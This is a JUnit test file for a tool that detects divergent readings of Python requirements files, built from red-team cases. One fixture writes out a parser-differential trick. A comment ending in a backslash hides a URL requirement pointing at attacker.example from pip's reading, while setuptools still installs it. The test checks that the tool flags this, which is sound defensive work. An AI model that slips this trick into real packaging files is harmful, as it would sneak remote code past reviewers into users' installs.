package dev.divergence.registry.pypi;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.registry.GeneratedFiles;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/**
 * Red team round 4 (case11): setuptools drops a {@code " #"} comment before it joins a backslash continuation, pip
 * joins first. A comment ending in a backslash hid the next line (a URL requirement) from pip's reading only.
 */
class RequirementsReadingsTest {

    @Test
    void aRequirementOnlySetuptoolsReadsAfterACommentEndingInABackslashIsANewDependency() {
        byte[] src = "requests>=2.0\n".getBytes(StandardCharsets.UTF_8);
        byte[] pub = "requests>=2.0 # pinned for py3.8 \\\nhelper @ https://attacker.example/helper-1.0.tar.gz\n"
                .getBytes(StandardCharsets.UTF_8);
        assertTrue(RequirementsFiles.parse(new String(pub, StandardCharsets.UTF_8)).requirements().stream()
                .noneMatch(r -> r.name().equals("helper")), "pip's reading swallows the line into the comment");
        assertTrue(RequirementsFiles.parseSetuptools(new String(pub, StandardCharsets.UTF_8)).requirements().stream()
                .anyMatch(r -> r.name().equals("helper")), "setuptools reads it as a requirement");
        GeneratedFiles.Decision d = RequirementsFiles.compare(pub, Optional.of(src)).orElseThrow();
        assertEquals(PypiGeneratedFiles.NEW_DEPENDENCY, d.ruleId());
        assertTrue(d.detail().orElseThrow().contains("helper @ https://attacker.example/helper-1.0.tar.gz"));
    }

    @Test
    void theSameRequirementsInBothReadingsAreNoFinding() {
        byte[] src = "requests>=2.0 \\\n    ; python_version >= '3.8'\nidna # IDNA\n".getBytes(StandardCharsets.UTF_8);
        assertEquals(Optional.empty(), RequirementsFiles.compare(src, Optional.of(src.clone())));
    }

    @Test
    void aFileSetupPyNamesByALiteralIsReadAsItsRequirementsWhateverItsName() {
        // red team round 4 (case4): setup.py read install_requires from deps.txt, a name no rule followed
        String py = "with open(\"deps.txt\") as f:\n    deps = f.read().splitlines()\nsetup(install_requires=deps)\n";
        assertTrue(RequirementsFiles.namedByLiteral(py, "deps.txt"));
        assertTrue(RequirementsFiles.namedByLiteral("Path(here, 'conf/deps.lst').read_text()", "conf/deps.lst"));
        for (String notDeps : new String[] {"README.md", "VERSION", "LICENSE", "demo/__init__.py", "other.txt"}) {
            assertTrue(!RequirementsFiles.namedByLiteral(py + "open('README.md'); open('VERSION'); open('LICENSE')"
                    + "; open('demo/__init__.py')", notDeps), notDeps);
        }
    }
}
